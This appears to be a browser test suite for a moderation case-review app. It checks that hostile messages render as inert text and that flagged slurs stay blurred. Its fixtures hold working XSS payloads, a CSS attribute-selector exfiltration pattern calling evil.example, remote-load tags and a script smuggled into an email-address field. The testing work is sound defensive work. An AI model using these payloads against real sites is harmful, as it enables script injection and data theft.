import { describe, expect, it } from 'vitest';
import { openPage, signInAs } from './browser.ts';
import { consoleInBrowser } from './console-in-browser.ts';
import { seedCase } from './seed.ts';

const met = consoleInBrowser();

const SCRIPT = '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script><svg onload="window.hurt=1">';
const HOSTILE: [string, string][] = [
  ['a script', `I hope you get a taste of it. ${SCRIPT} <a href="javascript:window.hurt=1">your refund</a>`],
  [
    'a style that tells',
    'I hope you get a taste. <style>@import url(https://evil.example/a.css); input[value^=a]{background:url(https://evil.example/a)}</style>',
  ],
  [
    'pictures and frames',
    'I hope you get a taste. <img src="https://evil.example/p.gif"><iframe src="https://evil.example"></iframe><link rel="prefetch" href="https://evil.example">',
  ],
  ['text that runs the other way', 'I hope you get a taste. \u202Egnp.exe\u202C مرحبا שלום \u2066isolated\u2069'],
  [
    'ten thousand links',
    `I hope you get a taste. ${Array.from({ length: 10_000 }, (_, n) => `https://evil.example/${n}`).join(' ')}`,
  ],
  ['a word of a million letters', `I hope you get a taste. ${'x'.repeat(1_000_000)}`],
];

/** The words of the first turn, without what the page says of them. */
const WORDS_SHOWN = `(() => {
  const turn = document.querySelector('.turn-text').cloneNode(true);
  for (const ours of turn.querySelectorAll('.found-why, .found-number')) ours.remove();
  return turn.textContent;
})()`;

describe('what hostile people send', () => {
  it.each(HOSTILE)('is shown as text, and asks nobody for anything: %s', async (name, text) => {
    const { caseId } = await seedCase(met.under.services, name.replaceAll(' ', '-'), {
      text,
      contact: {
        subject: { name: SCRIPT, address: '"><script>window.hurt=1</script>@evil.example' },
        attachments: [{ name: SCRIPT, mediaType: 'text/html', sizeBytes: 3, sha256: 'a'.repeat(64), read: false }],
      },
    });
    const { page, foreign, faults } = await openPage(met.browser, met.under.url, `/cases/${caseId}`);
    page.setDefaultTimeout(30_000);
    await signInAs(page, 'security');
    await page.getByText('hope you get a taste').first().waitFor();
    expect(await page.evaluate(WORDS_SHOWN)).toBe(text);
    expect(await page.evaluate('window.hurt')).toBeUndefined();
    expect(
      await page
        .locator('.turn-text a, .turn-text img, .turn-text iframe, .turn-text style, .turn-text script')
        .count(),
    ).toBe(0);
    expect(await page.locator('a[href*="evil.example"], a[href^="javascript:"]').count()).toBe(0);
    expect([foreign, faults]).toEqual([[], []]);
    expect(await page.title()).toMatch(/^UT-[0-9A-Z]{4}-[0-9A-Z]{4} · Undertone$/);
    expect(page.url()).toBe(`${met.under.url}/cases/${caseId}`);
    await page.context().close();
  });

  it('keeps slurs and what is said of killing blurred until somebody asks for it', async () => {
    const { caseId } = await seedCase(met.under.services, 'graphic', {
      assessment: { signals: [{ ...signalOf('protected-trait'), span: { turn: 0, start: 2, end: 26 } }] },
    });
    const { page } = await openPage(met.browser, met.under.url, `/cases/${caseId}`);
    await signInAs(page, 'security');
    await page.locator('.blurred').first().waitFor();
    await page.getByText('Show words that are blurred').click();
    await page.locator('.blurred').first().waitFor({ state: 'detached' });
    await page.context().close();
  });
});

const signalOf = (category: 'protected-trait') => ({
  id: 'harassment/trait/example',
  category,
  type: null,
  severity: 1,
  severityBefore: 1,
  confidence: 1,
  captures: {},
  lowered: [],
  why: 'An attack on a protected trait.',
  by: 'rules@test',
});
